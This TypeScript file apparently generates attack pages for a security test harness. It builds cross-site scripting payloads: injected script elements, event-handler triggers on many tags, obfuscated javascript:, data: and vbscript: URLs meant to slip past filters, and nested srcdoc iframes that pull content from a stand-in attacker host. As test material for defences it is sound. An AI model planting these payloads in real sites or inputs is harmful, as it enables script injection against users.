import type { Attack } from '../attackTape.ts'
import type { Lures } from '../lures.ts'
import { element, type Piece, svg } from '../../page.ts'

/** Attacks that try to run code of theirs. */

export function scripts({ both, evil, script }: Lures): Attack {
  const rules = {
    prerender: [{ source: 'list', urls: [evil('speculation')] }],
    prefetch: [{ source: 'list', urls: both('rules') }],
  }
  const inline: Piece[] = [
    element('script', {}, script('inline')),
    element('SCRIPT', { type: 'module' }, script('module')),
    ...both('address').map((src) => element('script', { src, async: '', crossorigin: 'anonymous' })),
    element('script', { type: 'speculationrules' }, JSON.stringify(rules)),
    element('script', { type: 'importmap' }, JSON.stringify({ imports: { tea: evil('import') } })),
  ]
  return {
    head: inline,
    body: [
      ...inline,
      element('noscript', {}, element('script', {}, script('noscript'))),
      element('template', {}, element('script', {}, script('template'))),
      element('div', {}, svg('svg', {}, svg('script', { href: evil('svg-script') }), svg('script', {}, script('svg')))),
      element('math', {}, element('mtext', {}, element('script', {}, script('math')))),
    ],
  }
}

const handlerTags: readonly (readonly [string, string, Record<string, unknown>])[] = [
  ['img', 'onerror', { src: 'x:' }],
  ['img', 'OnError', { src: '' }],
  ['input', 'onfocus', { autofocus: '' }],
  ['textarea', 'ONFOCUS', { autofocus: true }],
  ['details', 'ontoggle', { open: '' }],
  ['video', 'onloadstart', { src: 'data:video/mp4,' }],
  ['audio', 'onerror', { src: 'data:audio/mp3,', autoplay: '' }],
  ['object', 'onerror', { data: 'data:text/html,' }],
  ['iframe', 'onload', {}],
  ['marquee', 'onstart', {}],
  ['select', 'onfocusin', { autofocus: '' }],
  ['div', 'onanimationstart', { style: 'animation: spin 1s' }],
  ['div', 'ontransitionrun', { style: 'transition: color 1s' }],
  ['div', 'onscrollend', {}],
  ['div', 'onbeforetoggle', { popover: 'auto' }],
  ['div', 'oncontentvisibilityautostatechange', { style: 'content-visibility: auto' }],
  ['form', 'onsubmit', {}],
  ['video', 'onplay', { autoplay: '', muted: '' }],
]

export function handlers({ script }: Lures): Attack {
  const buttons = ['onclick', 'onmouseover', 'onpointerenter', 'onmousemove', 'onkeydown'].map((name) =>
    element('button', { [name]: script(name) }, 'Press here'),
  )
  return {
    bodyAttributes: Object.fromEntries(
      ['onload', 'onpageshow', 'onresize', 'onhashchange', 'onmessage', 'onfocus'].map((name) => [name, script(`body-${name}`)]),
    ),
    body: [
      ...handlerTags.map(([tag, handler, others]) => element(tag, { ...others, [handler]: script(`${tag}-${handler}`) })),
      ...buttons,
      svg('svg', { onload: script('svg-onload') }, svg('g', { onclick: script('svg-onclick'), onfocusin: script('svg-focus') })),
      element('style', { onload: script('style-onload') }, 'p { color: teal }'),
      element('link', { rel: 'stylesheet', href: 'data:text/css,', onload: script('link-onload') }),
    ],
  }
}

/** The same address written as filters forget it. */
function spellings(code: string): string[] {
  return [
    `javascript:${code}`,
    `JaVaScRiPt:${code}`,
    `java\tscript:${code}`,
    `java\nscript:${code}`,
    `javascript\r\n:${code}`,
    ` \u0001\u001fjavascript:${code}`,
    `\u00a0javascript:${code}`,
    `&#106;&#97;vascript:${code}`,
    `javascript&colon;${code}`,
    `javascript://leafandkettle.example/%0a${code}`,
    `vbscript:${code}`,
    `data:text/html,<script>${code}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
    `blob:null/${code}`,
    `view-source:javascript:${code}`,
  ]
}

export function links({ script }: Lures): Attack {
  const address = `javascript:${script('attribute')}`
  return {
    body: [
      ...spellings(script('link')).map((href) => element('a', { href, target: '_top', class: 'cover' }, 'Read on')),
      ...spellings(script('frame')).map((src) => element('iframe', { src })),
      element('form', { action: address }, element('button', { formaction: address, autofocus: '' }, 'Send')),
      element('object', { data: address }),
      element('embed', { src: address }),
      element('map', { name: 'tea' }, element('area', { href: address, shape: 'default' })),
      element('img', { src: address, usemap: '#tea', dynsrc: address, lowsrc: address }),
      element('video', { src: address, poster: address }),
      element('link', { rel: 'stylesheet', href: address }),
      element('blockquote', { cite: address, background: address }),
      element('applet', { code: address, archive: address, codebase: address }),
      svg('svg', {}, svg('a', { 'xlink:href': address, href: address }, svg('text', { x: 10, y: 20 }, 'Read on'))),
      element('math', { href: address }, element('maction', { actiontype: 'statusline', 'xlink:href': address }, 'Read on')),
    ],
  }
}

export function srcdoc({ both, evil, script }: Lures): Attack {
  const page = (way: string) =>
    `<!doctype html><base target="_top"><meta http-equiv="refresh" content="0;url=${evil(`${way}-refresh`)}">` +
    `<script>${script(way)}</script><img src="${evil(`${way}-image`)}" onerror="${script(`${way}-error`)}">` +
    `<link rel="stylesheet" href="${evil(`${way}-style`)}"><form action="${evil(`${way}-form`)}"><button autofocus>Send</button></form>`
  const open = 'allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals allow-forms'
  return {
    body: [
      element('iframe', { srcdoc: page('plain') }),
      element('iframe', { SRCDOC: page('case'), src: evil('beside-srcdoc') }),
      element('iframe', { srcdoc: page('allowed'), sandbox: open, allow: 'fullscreen *; camera *' }),
      element('iframe', { srcdoc: `<iframe srcdoc="${page('inner').replaceAll('"', '&quot;')}"></iframe>` }),
      element('iframe', {
        srcdoc: both('words')
          .map((src) => `<img src=${src}>`)
          .join(''),
      }),
    ],
  }
}
